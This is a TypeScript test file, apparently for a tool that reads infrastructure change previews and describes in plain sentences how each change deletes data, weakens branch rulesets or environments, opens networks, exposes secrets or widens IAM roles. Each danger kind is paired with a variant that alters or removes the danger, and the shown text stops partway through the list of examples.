/**
 * Every kind of danger: a change that has it, the sentence, and the same change with one datum altered, which alters the sentence or takes the danger
 * away. What makes something safer is no danger.
 */
import { stringify } from "yaml";
import { DANGER_KINDS, plainSentence, type DangerKind } from "../../../report/preview";
import { dangersOf, eventsOf, LATER, reportOf, SECRET, type MadeStep } from "./support";

const RULESET = "github:index/repositoryRuleset:RepositoryRuleset";
const ENVIRONMENT = "github:index/repositoryEnvironment:RepositoryEnvironment";
const POLICY = "github:index/repositoryEnvironmentDeploymentPolicy:RepositoryEnvironmentDeploymentPolicy";
const RELEASE = "kubernetes:helm.sh/v3:Release";
const CLUSTER = "azure-native:containerservice:ManagedCluster";
const POOL = "azure-native:containerservice:AgentPool";
const ACR = "azure-native:containerregistry:Registry";
const ECR = "aws:ecr/repository:Repository";
const FILE = "github:index/repositoryFile:RepositoryFile";
const SECRETS = "github:index/actionsEnvironmentSecret:ActionsEnvironmentSecret";
const ROLE = "aws:iam/role:Role";
const ADMISSION = "kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicy";
const BINDING = "kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicyBinding";

type Fields = Readonly<Record<string, unknown>>;

const update = (type: string, old: object, wanted: object, more: Partial<MadeStep> = {}): MadeStep => ({ op: "update", type, old, new: wanted, ...more });
const remove = (type: string, old: object, more: Partial<MadeStep> = {}): MadeStep => ({ op: "delete", type, old, ...more });
const create = (type: string, wanted: object, more: Partial<MadeStep> = {}): MadeStep => ({ op: "create", type, new: wanted, ...more });
const replace = (type: string, old: object, wanted: object, cause: string, more: Partial<MadeStep> = {}): MadeStep => ({ op: "replace", type, old, new: wanted, keys: [cause], detailedDiff: { [cause]: { diffKind: "update-replace" } }, ...more });

const rules = (more: Fields = {}): Fields => ({
  deletion: true,
  nonFastForward: true,
  pullRequest: { requiredApprovingReviewCount: 2, requireCodeOwnerReview: true },
  requiredStatusChecks: { strictRequiredStatusChecksPolicy: true, requiredChecks: [{ context: "DCO", integrationId: 1861 }, { context: "tests", integrationId: 15368 }] },
  ...more,
});
const ruleset = (more: Fields = {}): Fields => ({
  name: "main",
  repository: "dynamo",
  enforcement: "active",
  conditions: { refName: { includes: ["~DEFAULT_BRANCH"], excludes: [] } },
  bypassActors: [{ actorId: 1, actorType: "Integration", bypassMode: "pull_request" }],
  rules: rules(),
  ...more,
});
const checks = (...requiredChecks: readonly object[]): Fields => ruleset({ rules: rules({ requiredStatusChecks: { strictRequiredStatusChecksPolicy: true, requiredChecks } }) });
const policy = (...statements: readonly object[]): string => JSON.stringify({ Version: "2012-10-17", Statement: statements });
const trust = (sub: string | readonly string[], more: Fields = {}): string =>
  policy({ Effect: "Allow", Action: "sts:AssumeRoleWithWebIdentity", Principal: { Federated: "arn:aws:iam::1:oidc-provider/github" }, Condition: { StringEquals: { "github:aud": "sts.amazonaws.com", "github:sub": sub } }, ...more });
const allow = (Action: string | readonly string[], Resource = "arn:aws:s3:::bucket/*"): object => ({ Sid: "Write", Effect: "Allow", Action, Resource });
const scaleSet = (more: Fields = {}, values: Fields = {}): Fields => ({ chart: "oci://ghcr.io/charts/gha-runner-scale-set", name: "gpu-v1", version: "0.15.1", ...more, values: { maxRunners: 8, runnerGroup: "testers", runnerScaleSetName: "gpu-v1", ...values } });
const controller = (version: string): Fields => ({ chart: "oci://ghcr.io/charts/gha-runner-scale-set-controller", name: "arc", version });
const namespaced = (name: string, more: Fields = {}): Fields => ({ metadata: { name, namespace: "arc-gpu" }, ...more });
const pool = (more: Fields = {}): Fields => ({ agentPoolName: "gpu1", resourceName: "runners", maxCount: 8, orchestratorVersion: "1.34", vmSize: "Standard_NC24ads_A100_v4", ...more });
const cluster = (more: Fields = {}): Fields => ({ resourceName: "runners", kubernetesVersion: "1.34", disableLocalAccounts: true, aadProfile: { adminGroupObjectIDs: ["group-1"], enableAzureRBAC: true }, apiServerAccessProfile: { authorizedIPRanges: ["10.0.0.0/8"] }, agentPoolProfiles: [{ name: "system", maxCount: 4 }], ...more });
const assignment = (more: Fields = {}): Fields => ({ principalId: "identity-1", roleDefinitionId: "/providers/roleDefinitions/Reader", scope: "/resourceGroups/group", description: "Reads", ...more });
const lifecycle = (countNumber: number): Fields => ({ repository: "r", policy: JSON.stringify({ rules: [{ rulePriority: 1, selection: { tagStatus: "tagged", tagPatternList: ["main-*"], countType: "imageCountMoreThan", countNumber }, action: { type: "expire" } }] }) });
const admission = (more: Fields = {}): Fields => ({ metadata: { name: "runner-pods" }, spec: { failurePolicy: "Fail", matchConstraints: { resourceRules: [{ resources: ["pods"] }] }, validations: [{ expression: "a", message: "no host network" }, { expression: "b", message: "no privileges" }], ...more } });

const VARIABLE = "github:index/actionsEnvironmentVariable:ActionsEnvironmentVariable";
const CRON = "kubernetes:batch/v1:CronJob";
const CONFIG_MAP = "kubernetes:core/v1:ConfigMap";
const pods = (image: string, more: Fields = {}): Fields => ({ chart: "c", name: "set", version: "1", values: { template: { spec: { containers: [{ name: "runner", image, ...more }] } } } });
const cron = (image: string, container: Fields = {}, spec: Fields = {}): Fields => ({ metadata: { name: "cleaner" }, spec: { jobTemplate: { spec: { template: { spec: { containers: [{ image, ...container }], ...spec } } } } } });
const jobPod = (spec: Fields): Fields => ({ metadata: { name: "job-pod" }, data: { "job.yaml": JSON.stringify({ spec }) } });

const JOB: Fields = { "runs-on": "ubuntu-24.04", steps: [{ run: "a" }] };
const steps = (...list: readonly object[]): Fields => ({ jobs: { test: { ...JOB, steps: list } } });
const flow = (old: object, wanted: object): MadeStep => {
  const file = (content: object): object => ({ file: ".github/workflows/pr.yaml", content: stringify(content, { aliasDuplicateObjects: false }) });
  return update(FILE, file(old), file(wanted));
};

interface Example {
  readonly step: MadeStep;
  readonly says: string;
  /** The same with one datum altered; undefined says that the danger is then gone. */
  readonly altered: MadeStep;
  readonly thenSays?: string;
}

const EXAMPLES: Readonly<Record<DangerKind, readonly Example[]>> = {
  "stateful-deleted": [{ step: remove(ECR, { name: "ai/dynamo" }), says: "The ECR repository ai/dynamo is deleted, and its images with it.", altered: remove(ECR, { name: "ai/other" }), thenSays: "The ECR repository ai/other is deleted, and its images with it." }],
  "stateful-replaced": [
    { step: replace(ACR, { registryName: "one" }, { registryName: "two" }, "registryName"), says: "The Azure container registry one is replaced by two, and its images are lost: registryName cannot change in place.", altered: update(ACR, { registryName: "one", sku: "Basic" }, { registryName: "one", sku: "Premium" }) },
  ],
  "stateful-forgotten": [{ step: remove(ECR, { name: "ai/dynamo" }, { retainOnDelete: true }), says: "The ECR repository ai/dynamo leaves the stack and stays in the cloud: nothing looks after it any more.", altered: create(ECR, { name: "ai/dynamo" }) }],
  "unknown-deleted": [
    { step: remove("datadog:index/monitor:Monitor", { name: "m" }), says: "The monitor thing (datadog:index/monitor:Monitor) is deleted: what is lost with it, this report does not know.", altered: remove("datadog:index/monitor:Monitor", { name: "m" }, { retainOnDelete: true }) },
  ],
  "unknown-replaced": [
    { step: replace("kubernetes:apps/v1:Deployment", { a: 1 }, { a: 2 }, "a"), says: "The deployment thing (kubernetes:apps/v1:Deployment) is replaced: what is lost with it, this report does not know.", altered: update("kubernetes:apps/v1:Deployment", { a: 1 }, { a: 2 }) },
  ],
  "retention-shortened": [
    { step: update("aws:ecr/lifecyclePolicy:LifecyclePolicy", lifecycle(60), lifecycle(10)), says: "ECR lifecycle policy thing keeps images of tagged main-* for less: 10 instead of 60. What is beyond goes at its next run.", altered: update("aws:ecr/lifecyclePolicy:LifecyclePolicy", lifecycle(60), lifecycle(20)), thenSays: "ECR lifecycle policy thing keeps images of tagged main-* for less: 20 instead of 60. What is beyond goes at its next run." },
    { step: update("aws:ecr/lifecyclePolicy:LifecyclePolicy", lifecycle(60), lifecycle(10)), says: "ECR lifecycle policy thing keeps images of tagged main-* for less: 10 instead of 60. What is beyond goes at its next run.", altered: update("aws:ecr/lifecyclePolicy:LifecyclePolicy", lifecycle(60), lifecycle(61)) },
    {
      step: update("aws:s3/bucketLifecycleConfiguration:BucketLifecycleConfiguration", { rules: [{ id: "expire", expiration: { days: 30 } }] }, { rules: [{ id: "expire", expiration: { days: 7 } }] }),
      says: "S3 lifecycle rules thing keeps days of expire for less: 7 instead of 30. What is beyond goes at its next run.",
      altered: update("aws:s3/bucketLifecycleConfiguration:BucketLifecycleConfiguration", { rules: [{ id: "expire", expiration: { days: 30 } }] }, { rules: [{ id: "other", expiration: { days: 7 } }] }),
    },
    {
      step: update("azure-native:containerregistry:Task", task("3d"), task("1d")),
      says: "Azure registry task thing keeps days of r:^main for less: 1 instead of 3. What is beyond goes at its next run.",
      altered: update("azure-native:containerregistry:Task", task("3d"), task("5d")),
    },
  ],
  "deletion-forced": [{ step: update(ECR, { name: "r", forceDelete: false }, { name: "r", forceDelete: true }), says: "forceDelete is turned on for the ECR repository r: from then on it can be deleted with all that it holds.", altered: update(ECR, { name: "r", forceDelete: true, tags: { a: "1" } }, { name: "r", forceDelete: true, tags: { a: "2" } }) }],

  "ruleset-deleted": [{ step: remove(RULESET, ruleset()), says: "The ruleset main is deleted: nothing protects ~DEFAULT_BRANCH any more.", altered: remove(RULESET, ruleset({ name: "release" })), thenSays: "The ruleset release is deleted: nothing protects ~DEFAULT_BRANCH any more." }],
  "ruleset-replaced": [{ step: replace(RULESET, ruleset(), ruleset({ repository: "other" }), "repository"), says: "The ruleset main is replaced: its branches are unprotected between the deletion of the old one and the creation of the new one.", altered: update(RULESET, ruleset(), ruleset({ name: "main2" })) }],
  "ruleset-disabled": [{ step: update(RULESET, ruleset(), ruleset({ enforcement: "disabled" })), says: "The ruleset main is no longer in force: its enforcement becomes disabled.", altered: update(RULESET, ruleset(), ruleset({ enforcement: "evaluate" })), thenSays: "The ruleset main is no longer in force: its enforcement becomes evaluate." }],
  "branches-uncovered": [
    { step: update(RULESET, ruleset(), ruleset({ conditions: { refName: { includes: ["refs/heads/next"] } } })), says: "The ruleset main no longer covers ~DEFAULT_BRANCH.", altered: update(RULESET, ruleset(), ruleset({ conditions: { refName: { includes: ["~DEFAULT_BRANCH", "refs/heads/next"] } } })) },
    { step: update(RULESET, ruleset(), ruleset({ conditions: { refName: { includes: ["~DEFAULT_BRANCH"], excludes: ["refs/heads/hot"] } } })), says: "The ruleset main leaves out refs/heads/hot.", altered: update(RULESET, ruleset(), ruleset({ conditions: { refName: { includes: ["~DEFAULT_BRANCH"], excludes: ["refs/heads/cold"] } } })), thenSays: "The ruleset main leaves out refs/heads/cold." },
  ],
  "rule-removed": [
    { step: update(RULESET, ruleset(), ruleset({ rules: rules({ deletion: false }) })), says: "The ruleset main no longer forbids deleting branches.", altered: update(RULESET, ruleset(), ruleset({ rules: rules({ nonFastForward: false }) })), thenSays: "The ruleset main no longer forbids force pushes." },
    { step: update(RULESET, ruleset({ rules: rules({ mergeQueue: {} }) }), ruleset()), says: "The ruleset main no longer demands the merge queue.", altered: update(RULESET, ruleset(), ruleset({ rules: rules({ mergeQueue: {} }) })) },
    { step: update(RULESET, ruleset(), ruleset({ rules: rules({ requiredStatusChecks: { requiredChecks: [{ context: "DCO", integrationId: 1861 }, { context: "tests", integrationId: 15368 }] } }) })), says: "The ruleset main no longer demands that a pull request holds the newest state of its target: checks may have passed on an older one.", altered: update(RULESET, ruleset(), ruleset({ bypassActors: [] })) },
  ],
  "required-check-removed": [{ step: update(RULESET, ruleset(), checks({ context: "tests", integrationId: 15368 })), says: "The check DCO is no longer required by the ruleset main.", altered: update(RULESET, ruleset(), checks({ context: "DCO", integrationId: 1861 })), thenSays: "The check tests is no longer required by the ruleset main." }],
  "required-check-unpinned": [{ step: update(RULESET, ruleset(), checks({ context: "DCO" }, { context: "tests", integrationId: 15368 })), says: "Anybody with write access can report the required check DCO of the ruleset main: it is no longer tied to the app 1861.", altered: update(RULESET, checks({ context: "DCO" }), checks({ context: "DCO", integrationId: 1861 })) }],
  "required-check-app-changed": [{ step: update(RULESET, ruleset(), checks({ context: "DCO", integrationId: 7 }, { context: "tests", integrationId: 15368 })), says: "The required check DCO of the ruleset main counts when the app 7 reports it, instead of 1861.", altered: update(RULESET, ruleset(), checks({ context: "DCO", integrationId: 8 }, { context: "tests", integrationId: 15368 })), thenSays: "The required check DCO of the ruleset main counts when the app 8 reports it, instead of 1861." }],
  "bypass-added": [{ step: update(RULESET, ruleset({ bypassActors: [] }), ruleset()), says: "Integration/1 can bypass the ruleset main, in mode pull_request.", altered: update(RULESET, ruleset(), ruleset({ bypassActors: [] })) }],
  "bypass-widened": [{ step: update(RULESET, ruleset(), ruleset({ bypassActors: [{ actorId: 1, actorType: "Integration", bypassMode: "always" }] })), says: "Integration/1 can bypass the ruleset main in mode always instead of pull_request.", altered: update(RULESET, ruleset({ bypassActors: [{ actorId: 1, actorType: "Integration", bypassMode: "always" }] }), ruleset()) }],
  "reviews-removed": [{ step: update(RULESET, ruleset(), ruleset({ rules: rules({ pullRequest: undefined }) })), says: "The ruleset main no longer demands a pull request: whoever may push can push directly.", altered: update(RULESET, ruleset({ rules: rules({ pullRequest: undefined }) }), ruleset()) }],
  "reviews-lowered": [{ step: update(RULESET, ruleset(), ruleset({ rules: rules({ pullRequest: { requiredApprovingReviewCount: 1, requireCodeOwnerReview: true } }) })), says: "The ruleset main demands 1 approving reviews instead of 2.", altered: update(RULESET, ruleset(), ruleset({ rules: rules({ pullRequest: { requiredApprovingReviewCount: 3, requireCodeOwnerReview: true } }) })) }],
  "review-rule-removed": [{ step: update(RULESET, ruleset(), ruleset({ rules: rules({ pullRequest: { requiredApprovingReviewCount: 2, requireCodeOwnerReview: false } }) })), says: "The ruleset main no longer demands an approval of the code's owners.", altered: update(RULESET, ruleset(), ruleset({ rules: rules({ pullRequest: { requiredApprovingReviewCount: 2, requireCodeOwnerReview: true, requireLastPushApproval: true } }) })) }],
  "protection-not-known": [{ step: update(RULESET, ruleset(), ruleset({ enforcement: LATER })), says: "enforcement of the ruleset main will only be known at the apply: whether it protects less cannot be told.", altered: update(RULESET, ruleset(), ruleset({ bypassActors: [{ actorId: LATER, actorType: "Team" }] })), thenSays: "bypassActors of the ruleset main will only be known at the apply: whether it protects less cannot be told." }],
  "code-owners-changed": [
    { step: update(FILE, { file: ".github/CODEOWNERS", content: "# who\n/.github/ @ops\n/lib/ @rust\n" }, { file: ".github/CODEOWNERS", content: "/lib/ @rust\n" }), says: ".github/CODEOWNERS no longer says /.github/ @ops: other people, or nobody, must approve changes there.", altered: update(FILE, { file: ".github/CODEOWNERS", content: "/lib/ @rust\n" }, { file: ".github/CODEOWNERS", content: "/lib/ @rust\n/docs/ @docs\n" }) },
    { step: remove(FILE, { file: "CODEOWNERS", content: "* @ops" }), says: "CODEOWNERS is removed: no path has owners who must approve.", altered: remove(FILE, { file: "README.md", content: "x" }) },
  ],
  "actions-loosened": [
    { step: update("github:index/actionsRepositoryPermissions:ActionsRepositoryPermissions", { repository: "r", allowedActions: "selected" }, { repository: "r", allowedActions: "all" }), says: "Workflows of r can use all actions instead of selected.", altered: update("github:index/actionsRepositoryPermissions:ActionsRepositoryPermissions", { repository: "r", allowedActions: "all" }, { repository: "r", allowedActions: "local_only" }) },
    { step: update("github:index/actionsRepositoryPermissions:ActionsRepositoryPermissions", { repository: "r", shaPinningRequired: true }, { repository: "r", shaPinningRequired: false }), says: "Actions in r need no longer be pinned to a commit: whoever moves their tag runs code in its jobs.", altered: update("github:index/actionsRepositoryPermissions:ActionsRepositoryPermissions", { repository: "r", shaPinningRequired: false }, { repository: "r", shaPinningRequired: true }) },
    { step: update("github:index/actionsRepositoryPermissions:ActionsRepositoryPermissions", { repository: "r", allowedActions: "selected", allowedActionsConfig: { patternsAlloweds: ["a/*"] } }, { repository: "r", allowedActions: "selected", allowedActionsConfig: { patternsAlloweds: ["a/*", "b/*"] } }), says: "Workflows of r can use the actions b/* as well.", altered: update("github:index/actionsRepositoryPermissions:ActionsRepositoryPermissions", { repository: "r", allowedActions: "selected", allowedActionsConfig: { patternsAlloweds: ["a/*", "b/*"] } }, { repository: "r", allowedActions: "selected", allowedActionsConfig: { patternsAlloweds: ["b/*", "a/*"] } }) },
  ],
  "workflow-token-widened": [
    { step: update("github:index/workflowRepositoryPermissions:WorkflowRepositoryPermissions", { repository: "r", defaultWorkflowPermissions: "read" }, { repository: "r", defaultWorkflowPermissions: "write" }), says: "The token of every workflow of r can write by default.", altered: update("github:index/workflowRepositoryPermissions:WorkflowRepositoryPermissions", { repository: "r", canApprovePullRequestReviews: false }, { repository: "r", canApprovePullRequestReviews: true }), thenSays: "Workflows of r can approve pull requests." },
  ],
  "environment-loosened": [
    { step: update(ENVIRONMENT, { environment: "apply", reviewers: [{ teams: [7] }] }, { environment: "apply" }), says: "Jobs of the environment apply no longer wait for a review.", altered: update(ENVIRONMENT, { environment: "apply", reviewers: [{ teams: [7] }] }, { environment: "apply", reviewers: [{ teams: [7, 8] }] }), thenSays: "team 8 can approve jobs of the environment apply." },
    { step: update(ENVIRONMENT, { environment: "apply", waitTimer: 30 }, { environment: "apply", waitTimer: 5 }), says: "Jobs of the environment apply wait 5 minutes instead of 30.", altered: update(ENVIRONMENT, { environment: "apply", waitTimer: 5 }, { environment: "apply", waitTimer: 30 }) },
    { step: update(ENVIRONMENT, { environment: "apply", canAdminsBypass: false }, { environment: "apply", canAdminsBypass: true }), says: "Administrators can bypass the rules of the environment apply.", altered: update(ENVIRONMENT, { environment: "apply", canAdminsBypass: true }, { environment: "apply", canAdminsBypass: false }) },
    { step: update(ENVIRONMENT, { environment: "apply", preventSelfReview: true }, { environment: "apply", preventSelfReview: false }), says: "Whoever starts a job of the environment apply can approve it.", altered: update(ENVIRONMENT, { environment: "apply", preventSelfReview: false }, { environment: "apply", preventSelfReview: true }) },
    { step: update(ENVIRONMENT, { environment: "apply", deploymentBranchPolicy: { customBranchPolicies: true } }, { environment: "apply" }), says: "Jobs of every branch can use the environment apply.", altered: update(ENVIRONMENT, { environment: "apply" }, { environment: "apply", deploymentBranchPolicy: { customBranchPolicies: true } }) },
  ],
  "images-mutable": [
    { step: update(ECR, { name: "r", imageTagMutability: "IMMUTABLE" }, { name: "r", imageTagMutability: "MUTABLE" }), says: "Every tag of r can be overwritten: an image that was tested need not be the one that is deployed.", altered: update(ECR, { name: "r", imageTagMutability: "MUTABLE" }, { name: "r", imageTagMutability: "IMMUTABLE" }) },
    { step: update(ECR, { name: "r", imageTagMutability: "IMMUTABLE" }, { name: "r", imageTagMutability: "IMMUTABLE_WITH_EXCLUSION", imageTagMutabilityExclusionFilters: [{ filter: "main-*" }] }), says: "Tags main-* of r can be overwritten.", altered: update(ECR, { name: "r", imageTagMutability: "IMMUTABLE_WITH_EXCLUSION", imageTagMutabilityExclusionFilters: [{ filter: "main-*" }] }, { name: "r", imageTagMutability: "IMMUTABLE" }) },
  ],
  "scanning-removed": [{ step: update(ECR, { name: "r", imageScanningConfiguration: { scanOnPush: true } }, { name: "r", imageScanningConfiguration: { scanOnPush: false } }), says: "The ECR repository r no longer scans images when they are pushed.", altered: update(ECR, { name: "r", imageScanningConfiguration: { scanOnPush: false } }, { name: "r", imageScanningConfiguration: { scanOnPush: true } }) }],
  "network-opened": [
    { step: update(CLUSTER, cluster(), cluster({ apiServerAccessProfile: { authorizedIPRanges: ["10.0.0.0/8", "0.0.0.0/0"] } })), says: "The API server of runners is reached from 0.0.0.0/0 as well.", altered: update(CLUSTER, cluster(), cluster({ apiServerAccessProfile: { authorizedIPRanges: [] } })), thenSays: "The API server of runners is reached from every address." },
    { step: update(ACR, { registryName: "r", publicNetworkAccess: "Disabled" }, { registryName: "r", publicNetworkAccess: "Enabled" }), says: "The Azure container registry r is reached from the internet.", altered: update(ACR, { registryName: "r", publicNetworkAccess: "Enabled" }, { registryName: "r", publicNetworkAccess: "Disabled" }) },
  ],
  "public-access-opened": [
    { step: update("aws:s3/bucketPublicAccessBlock:BucketPublicAccessBlock", { bucket: "b", blockPublicAcls: true }, { bucket: "b", blockPublicAcls: false }), says: "The S3 public access block b no longer has blockPublicAcls on its bucket.", altered: update("aws:s3/bucketPublicAccessBlock:BucketPublicAccessBlock", { bucket: "b", blockPublicAcls: false }, { bucket: "b", blockPublicAcls: true }) },
    { step: remove("aws:s3/bucketPublicAccessBlock:BucketPublicAccessBlock", { bucket: "b" }), says: "Nothing keeps the bucket b from being made public any more.", altered: create("aws:s3/bucketPublicAccessBlock:BucketPublicAccessBlock", { bucket: "b" }) },
  ],
  "encryption-removed": [{ step: remove("aws:s3/bucketServerSideEncryptionConfiguration:BucketServerSideEncryptionConfiguration", { bucket: "b" }), says: "The encryption of the bucket b is no longer set.", altered: create("aws:s3/bucketServerSideEncryptionConfiguration:BucketServerSideEncryptionConfiguration", { bucket: "b" }) }],
  "admission-removed": [
    { step: remove(ADMISSION, admission()), says: "The admission policy runner-pods is removed: the API server no longer refuses what it forbade.", altered: create(ADMISSION, admission()) },
    { step: remove(BINDING, { metadata: { name: "runner-pods" } }), says: "The binding runner-pods is removed: its admission policy no longer holds anywhere.", altered: create(BINDING, { metadata: { name: "runner-pods" } }) },
  ],
  "admission-loosened": [
    { step: update(ADMISSION, admission(), admission({ validations: [{ expression: "b", message: "no privileges" }] })), says: "The admission policy runner-pods no longer enforces: no host network.", altered: update(ADMISSION, admission(), admission({ validations: [{ expression: "a", message: "no host network" }] })), thenSays: "The admission policy runner-pods no longer enforces: no privileges." },
    { step: update(ADMISSION, admission(), admission({ failurePolicy: "Ignore" })), says: "The API server lets requests pass when it cannot evaluate the admission policy runner-pods.", altered: update(ADMISSION, admission({ failurePolicy: "Ignore" }), admission()) },
    { step: update(BINDING, { metadata: { name: "n" }, spec: { validationActions: ["Deny"] } }, { metadata: { name: "n" }, spec: { validationActions: ["Warn"] } }), says: "The binding n no longer denies: what its policy forbids is only warned of.", altered: update(BINDING, { metadata: { name: "n" }, spec: { validationActions: ["Warn"] } }, { metadata: { name: "n" }, spec: { validationActions: ["Deny"] } }) },
  ],
  "admission-changed": [{ step: update(ADMISSION, admission(), admission({ matchConstraints: { resourceRules: [{ resources: ["pods"] }], namespaceSelector: { matchLabels: { a: "b" } } } })), says: "What the admission policy runner-pods applies to changes: spec.matchConstraints.namespaceSelector.", altered: update(ADMISSION, admission(), { ...admission(), metadata: { name: "runner-pods", labels: { a: "b" } } }) }],
  "pod-security-lowered": [{ step: update("kubernetes:core/v1:Namespace", { metadata: { name: "n", labels: { "pod-security.kubernetes.io/enforce": "restricted" } } }, { metadata: { name: "n", labels: { "pod-security.kubernetes.io/enforce": "baseline" } } }), says: "Pods in n are held to the level baseline instead of restricted.", altered: update("kubernetes:core/v1:Namespace", { metadata: { name: "n", labels: { "pod-security.kubernetes.io/enforce": "baseline" } } }, { metadata: { name: "n", labels: { "pod-security.kubernetes.io/enforce": "restricted" } } }) }],
  "network-policy-removed": [{ step: remove("kubernetes:networking.k8s.io/v1:NetworkPolicy", namespaced("runners")), says: "The network policy runners of arc-gpu is removed: its pods reach, and are reached by, whatever nothing else forbids.", altered: create("kubernetes:networking.k8s.io/v1:NetworkPolicy", namespaced("runners")) }],
  "network-policy-changed": [{ step: update("kubernetes:networking.k8s.io/v1:NetworkPolicy", namespaced("runners", { spec: { egress: [{ ports: [{ port: 53 }] }] } }), namespaced("runners", { spec: { egress: [{ ports: [{ port: 53 }] }, {}] } })), says: "What the pods of arc-gpu reach changes: spec.egress of the network policy runners.", altered: update("kubernetes:networking.k8s.io/v1:NetworkPolicy", namespaced("runners", { spec: { egress: [{ ports: [{ port: 53 }] }, {}] } }), namespaced("runners", { spec: { egress: [{}, { ports: [{ port: 53 }] }] } })) }],
  "quota-removed": [{ step: remove("kubernetes:core/v1:ResourceQuota", namespaced("runners")), says: "Nothing limits what runs in arc-gpu any more: the resource quota runners is removed.", altered: create("kubernetes:core/v1:ResourceQuota", namespaced("runners")) }],

  "secret-added": [{ step: create(SECRETS, { environment: "main", secretName: "HF_TOKEN", value: SECRET }), says: "The secret HF_TOKEN is added in environment main.", altered: create(SECRETS, { environment: "next", secretName: "HF_TOKEN", value: SECRET }), thenSays: "The secret HF_TOKEN is added in environment next." }],
  "secret-rotated": [{ step: update(SECRETS, { environment: "main", secretName: "HF_TOKEN", value: SECRET }, { environment: "main", secretName: "HF_TOKEN", value: SECRET }, { diffs: ["value"], detailedDiff: { value: { diffKind: "update" } } }), says: "The secret HF_TOKEN gets another value in environment main; jobs that run now may still hold the old one.", altered: { op: "same", type: SECRETS, old: { secretName: "HF_TOKEN" }, new: { secretName: "HF_TOKEN" } } }],
  "secret-removed": [{ step: remove(SECRETS, { environment: "main", secretName: "HF_TOKEN", value: SECRET }), says: "The secret HF_TOKEN is removed in environment main: what reads it finds nothing.", altered: remove("kubernetes:core/v1:Secret", namespaced("github-app", { stringData: SECRET })), thenSays: "The secret github-app is removed in namespace arc-gpu: what reads it finds nothing." }],
  "secret-moved": [{ step: replace(SECRETS, { environment: "main", secretName: "HF_TOKEN", value: SECRET }, { environment: "next", secretName: "HF_TOKEN", value: SECRET }, "environment"), says: "The secret HF_TOKEN goes in environment main and HF_TOKEN comes in environment next.", altered: replace(SECRETS, { environment: "main", secretName: "HF_TOKEN", value: SECRET }, { environment: "last", secretName: "HF_TOKEN", value: SECRET }, "environment"), thenSays: "The secret HF_TOKEN goes in environment main and HF_TOKEN comes in environment last." }],
  "secret-property-changed": [{ step: update("pulumi:providers:github", { owner: "a", appAuth: SECRET }, { owner: "a", appAuth: SECRET }, { diffs: ["appAuth"] }), says: "The secret property appAuth of the github provider thing changes.", altered: update("pulumi:providers:github", { owner: "a", appAuth: SECRET }, { owner: "b", appAuth: SECRET }, { diffs: ["owner"] }) }],
  "secret-exposed": [{ step: update("x:y:Thing", { password: SECRET }, { password: "in the clear" }), says: "The property password of the thing thing is no longer kept secret: it will stand in the clear in the state.", altered: update("x:y:Thing", { password: SECRET, a: 1 }, { password: SECRET, a: 2 }, { diffs: ["a"] }) }],
  "secret-sealed": [{ step: update("x:y:Thing", { password: "in the clear" }, { password: SECRET }), says: "The property password of the thing thing becomes a secret; its former value stands in the clear in earlier states, so it should be another one.", altered: update("x:y:Thing", { token: "in the clear" }, { token: SECRET }), thenSays: "The property token of the thing thing becomes a secret; its former value stands in the clear in earlier states, so it should be another one." }],

  "identity-created": [
    { step: create(ROLE, { name: "r", assumeRolePolicy: trust("repo:o/n:environment:main") }), says: "The IAM role r is new. repo:o/n:environment:main can take it.", altered: create(ROLE, { name: "r", assumeRolePolicy: LATER }), thenSays: "The IAM role r is new. Who can take it will only be known at the apply." },
    { step: create("azure-native:authorization:RoleAssignment", assignment({ principalId: LATER })), says: "An identity that comes with it gets the role Reader on resourceGroups/group: Reads.", altered: create("azure-native:authorization:RoleAssignment", assignment({ principalId: LATER, scope: LATER })), thenSays: "An identity that comes with it gets the role Reader: Reads." },
  ],
  "role-trust-widened": [
    { step: update(ROLE, { name: "r", assumeRolePolicy: trust("a") }, { name: "r", assumeRolePolicy: trust(["a", "b"]) }), says: "Others can take the role r: b as StringEquals github:sub.", altered: update(ROLE, { name: "r", assumeRolePolicy: trust(["a", "b"]) }, { name: "r", assumeRolePolicy: trust("a") }) },
    { step: update(ROLE, { name: "r", assumeRolePolicy: trust("a") }, { name: "r", assumeRolePolicy: trust("a", { Condition: { StringEquals: { "github:aud": "sts.amazonaws.com" } } }) }), says: "Others can take the role r: StringEquals github:sub no longer has to be a.", altered: update(ROLE, { name: "r", assumeRolePolicy: trust("a") }, { name: "r", assumeRolePolicy: trust("a", { Sid: "Named" }) }) },
    { step: update(ROLE, { name: "r", assumeRolePolicy: trust("a") }, { name: "r", assumeRolePolicy: trust("a", { Principal: "*" }) }), says: "Others can take the role r: * as Principal.", altered: update(ROLE, { name: "r", assumeRolePolicy: trust(["a", "b"]) }, { name: "r", assumeRolePolicy: trust(["b", "a"]) }) },
  ],
  "role-trust-not-known": [{ step: update(ROLE, { name: "r", assumeRolePolicy: trust("a") }, { name: "r", assumeRolePolicy: LATER }), says: "Who can take the role r will only be known at the apply.", altered: update(ROLE, { name: "r", description: "a", assumeRolePolicy: trust("a") }, { name: "r", description: "b", assumeRolePolicy: trust("a") }) }],
  "permissions-widened": [
    { step: update("aws:iam/rolePolicy:RolePolicy", { role: "r", policy: policy(allow("s3:GetObject")) }, { role: "r", policy: policy(allow(["s3:GetObject", "s3:PutObject"])) }), says: "The role r may do more: s3:PutObject as Action.", altered: update("aws:iam/rolePolicy:RolePolicy", { role: "r", policy: policy(allow("s3:*")) }, { role: "r", policy: policy(allow("s3:PutObject")) }) },
    { step: update("aws:iam/rolePolicy:RolePolicy", { role: "r", policy: policy(allow("s3:GetObject"), { Sid: "No", Effect: "Deny", Action: "s3:PutObject", Resource: "*" }) }, { role: "r", policy: policy(allow("s3:GetObject")) }), says: "The role r may do more: No no longer forbids s3:PutObject, *.", altered: update("aws:iam/rolePolicy:RolePolicy", { role: "r", policy: policy(allow("s3:GetObject")) }, { role: "r", policy: policy({ Sid: "No", Effect: "Deny", Action: "s3:PutObject", Resource: "*" }, allow("s3:GetObject")) }) },
    { step: create("aws:iam/rolePolicy:RolePolicy", { role: "r", policy: policy(allow("s3:GetObject")) }), says: "The role r may do more: Write on s3:GetObject, arn:aws:s3:::bucket/*, without a condition.", altered: create("aws:iam/rolePolicy:RolePolicy", { role: LATER, policy: policy(allow("s3:GetObject")) }) },
  ],
  "permissions-not-known": [{ step: update("aws:iam/rolePolicy:RolePolicy", { role: "r", policy: policy(allow("s3:GetObject")) }, { role: "r", policy: LATER }), says: "What the role r may do will only be known at the apply.", altered: update("aws:iam/rolePolicy:RolePolicy", { role: "q", policy: "no policy" }, { role: "q", policy: "nor this" }), thenSays: "What the role q may do will only be known at the apply." }],
